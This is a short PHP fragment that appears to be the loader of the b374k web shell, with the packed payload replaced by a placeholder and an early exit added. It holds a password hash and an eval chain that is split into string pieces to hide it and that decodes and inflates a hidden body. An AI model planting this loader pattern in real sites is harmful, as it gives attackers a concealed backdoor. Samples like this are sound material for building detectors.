<?php exit; /* inert */ $s_pass = "0de664ecd2be02cdd54234a0d1229b43";
$s_func = "cr"."eat"."e_fun"."cti"."on";
$b374k = @$s_func('$x,$y', 'ev'.'al'.'("\$s_pass=\"$y\";?>".gz'.'inf'.'late'.'(bas'.'e64'.'_de'.'co'.'de($x)));');
@$b374k("AAAA_packed_body_elided_AAAA", $s_pass);
